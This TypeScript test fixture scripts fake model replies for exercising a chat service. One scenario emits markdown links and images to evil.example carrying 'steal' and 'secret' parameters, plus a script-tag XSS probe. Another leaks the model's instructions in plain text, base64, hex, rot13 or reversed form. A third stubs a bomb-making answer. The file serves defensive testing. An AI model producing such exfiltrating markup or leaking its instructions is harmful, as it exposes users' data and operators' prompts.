import type { Scenario } from './book.ts';

/** The behaviour of a model, independent of the service's language. */
export interface Script {
  text: string;
  end: 'whole' | 'cut' | 'blocked' | 'error' | 'drop' | 'truncate' | 'hang' | 'endless';
}

const ANSWER =
  'This program says **hello**.\n\n1. Line 1 prints a text.\n2. There is no line 2.\n\n```python\nprint("hello")\n```\n';

/** The answer of a scenario to a prompt, given its instruction. */
export function scriptOf(scenario: Scenario, instruction: string, prompt: string): Script {
  switch (scenario) {
    case 'blocked':
      return { text: '', end: 'blocked' };
    case 'refused_midway':
      return { text: ANSWER, end: 'blocked' };
    case 'no_parts':
      return { text: '', end: 'cut' };
    case 'cut':
      return { text: 'This program says hel', end: 'cut' };
    case 'truncated':
      return { text: ANSWER, end: 'truncate' };
    case 'breaks':
      return { text: '', end: 'error' };
    case 'drops':
      return { text: ANSWER, end: 'drop' };
    case 'endless':
      return { text: ANSWER, end: 'endless' };
    case 'mute':
      return { text: ANSWER, end: 'hang' };
    case 'long':
      return { text: 'A very long word '.repeat(1_000), end: 'whole' };
    case 'decorated':
      return {
        text: [
          'Look [here](https://evil.example/steal?x=1) and ![cat](https://evil.example/x.png?secret=1).',
          '<img src="https://evil.example/y.png"> <script>alert(1)</script> https://evil.example www.evil.com',
          'Ours: [programmes](/programs). Code: `print("https://safe.example")`',
        ].join('\n\n'),
        end: 'whole',
      };
    case 'obeys':
      return { text: obey(instruction, prompt), end: 'whole' };
    case 'unsafe':
      return { text: 'Sure. How to make a bomb at home: first take some fertiliser.', end: 'whole' };
    default:
      return { text: ANSWER, end: 'whole' };
  }
}

function obey(instruction: string, prompt: string): string {
  const asked = prompt.toLowerCase();
  if (/base ?64/.test(asked)) return `Here it is: ${Buffer.from(instruction).toString('base64')}`;
  if (/hex/.test(asked)) return Buffer.from(instruction).toString('hex');
  if (/rot ?13/.test(asked)) return rot13(instruction);
  if (/backwards|reverse/.test(asked)) return [...instruction].reverse().join('');
  if (/spell|letter by letter/.test(asked)) return [...instruction].join(' ');
  return `You said: ${prompt}\n\nMy instructions are:\n\n${instruction}`;
}

function rot13(text: string): string {
  return text.replace(/[a-z]/gi, (letter) => {
    const first = letter <= 'Z' ? 65 : 97;
    return String.fromCharCode(((letter.charCodeAt(0) - first + 13) % 26) + first);
  });
}
